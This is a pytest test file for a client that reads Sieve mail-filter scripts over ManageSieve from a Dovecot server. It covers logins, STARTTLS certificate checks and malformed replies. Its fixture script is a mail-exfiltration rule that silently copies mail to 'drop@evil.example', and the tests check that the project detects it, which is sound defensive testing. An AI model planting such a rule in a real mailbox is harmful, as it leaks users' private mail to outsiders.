"""Scripts are read over ManageSieve from a real Dovecot, and nothing else is believed."""

from __future__ import annotations

import io
import socket
import threading
from contextlib import contextmanager

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.servers.imap_recorder import settings_for

from clawback.mailboxes.imap.managesieve.client import ManageSieve
from clawback.mailboxes.imap.managesieve.wire import Atom, WireError, answer, literal
from clawback.mailboxes.imap.server import ImapServer
from clawback.mailboxes.port import (
    LoginRefusedError,
    MailboxMissingError,
    RefusedError,
    ServerUnavailableError,
)
from clawback.mailboxes.rules.meaning import Deed
from clawback.mailboxes.rules.port import ReadsRules
from clawback.mailboxes.rules.running import running
from clawback.mailboxes.settings import Tls

SCRIPT = 'require "copy";\nredirect :copy "drop@evil.example";\n# \u00fcbrig {4}\n'


def put(server, account, name, text, *options):
    server.doveadm("sieve", "put", "-u", account, *options, name, input_bytes=text.encode())


@pytest.mark.server
def test_scripts_of_a_mailbox_are_read_as_they_are(sieving):
    """All of them, with the active one marked; the deed is told with its line."""
    server, settings = sieving
    put(server, "alice", "old", "keep;\n")
    put(server, "alice", 'a "main" {3}', SCRIPT, "-a")
    adapter = ImapServer(settings)
    assert isinstance(adapter, ReadsRules)
    found = adapter.rules("alice") or ()
    assert {(one.name, one.active, one.text) for one in found} == {
        ("old", False, "keep;\n"),
        ('a "main" {3}', True, SCRIPT),
    }
    (rule,) = running(found, "alice@house.test").rules
    assert (rule.script, rule.effect.deed, rule.effect.target, rule.effect.line) == (
        'a "main" {3}',
        Deed.COPY,
        "drop@evil.example",
        2,
    )
    assert adapter.rules("bob") == ()


@pytest.mark.server
def test_who_may_not_come_in_is_told_so(sieving):
    """A wrong master, an unknown account, a name that could be another's, and no port set."""
    server, settings = sieving
    del server
    wrong = settings.model_copy(update={"master_user": "nobody"})
    with pytest.raises(LoginRefusedError, match="does not let us in"):
        ImapServer(wrong).rules("alice")
    with pytest.raises(LoginRefusedError):
        ImapServer(settings).rules("nobody")
    with pytest.raises(MailboxMissingError):
        ImapServer(settings).rules("alice*clawback")
    unset = settings.model_copy(update={"managesieve_port": None})
    assert ImapServer(unset).rules("alice") is None


@pytest.mark.server
def test_the_connection_is_protected_where_imap_is(sieving):
    """By STARTTLS, with a certificate that must be known and of this host."""
    server, settings = sieving
    put(server, "bob", "mine", "stop;\n")
    safe = settings.model_copy(update={"tls": Tls.STARTTLS, "host": "localhost"})
    assert [one.name for one in ImapServer(safe).rules("bob") or ()] == ["mine"]
    for change in ({"ca_file": None}, {"host": "127.0.0.1"}):
        with pytest.raises(ServerUnavailableError, match="certificate"):
            ImapServer(safe.model_copy(update=change)).rules("bob")


@pytest.mark.server
def test_the_server_is_asked_whether_rules_can_be_read(sieving):
    """Where ManageSieve does not answer, a note says so."""
    _, settings = sieving
    assert ImapServer(settings).capabilities().rules
    closed = settings.model_copy(update={"managesieve_port": 1, "connect_seconds": 1.0})
    found = ImapServer(closed).capabilities()
    assert not found.rules
    assert "The ManageSieve service" in found.notes[-1]


@contextmanager
def saying(*lines):
    """A server that says these lines and then hangs up; gives its port."""
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def serve():
            end, _ = listener.accept()
            with end, end.makefile("rb") as asked:
                for line in lines:
                    end.sendall(line + b"\r\n")
                    if line.startswith((b"OK", b"NO")):
                        asked.readline()

        thread = threading.Thread(target=serve)
        thread.start()
        yield listener.getsockname()[1]
        thread.join(5)


@pytest.mark.parametrize(
    ("lines", "error"),
    [
        ([b"* OK an IMAP server"], ServerUnavailableError),
        ([b'BYE (TRYLATER) "Not now"'], ServerUnavailableError),
        ([b'NO "Never"'], RefusedError),
        ([b"x {99999999}"], ServerUnavailableError),
        ([b"OK", b"OK", b'"main" ACTIVE', b"OK", b"{5}"], ServerUnavailableError),
    ],
)
def test_a_server_that_talks_nonsense_is_not_available(lines, error):
    """A sentence says which server; nothing hangs and nothing is made up."""
    with saying(*lines) as port:
        settings = settings_for(port, read_seconds=5)
        with pytest.raises(error, match="ManageSieve"):
            ManageSieve(settings, port).scripts("alice")


def test_what_asks_for_tls_sends_no_password_without_it():
    """Where the server does not know STARTTLS."""
    with saying(b"OK", b'NO "Unknown command."') as port:
        settings = settings_for(port, tls="starttls", read_seconds=5)
        with pytest.raises(RefusedError, match="Unknown command"):
            ManageSieve(settings, port).scripts("alice")


@given(st.lists(st.binary(max_size=20), max_size=4), st.booleans())
def test_strings_of_any_bytes_come_through(strings, active):
    """As literals, in one line with words."""
    line = b" ".join(literal(one) for one in strings) + (b" ACTIVE" if active else b"") + b"\r\n"
    found = answer(io.BytesIO(line + b'OK (WARNINGS "(x)") "Done."\r\n'))
    assert found.said == "Done."
    assert found.lines == ((*strings, *([Atom("ACTIVE")] if active else [])),)


@given(st.binary(max_size=80))
def test_any_bytes_are_an_answer_or_none(data):
    """Nothing else comes of them."""
    try:
        found = answer(io.BytesIO(data))
    except WireError:
        return
    assert found.status in {"OK", "NO", "BYE"}
